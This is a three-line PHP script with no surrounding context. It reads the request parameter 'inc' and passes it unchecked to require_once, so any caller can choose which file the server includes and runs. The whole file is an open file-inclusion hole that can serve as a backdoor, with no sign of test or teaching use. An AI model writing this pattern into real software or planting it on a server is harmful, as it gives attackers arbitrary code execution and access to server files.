<?php
$p = $_REQUEST['inc'];
require_once($p);
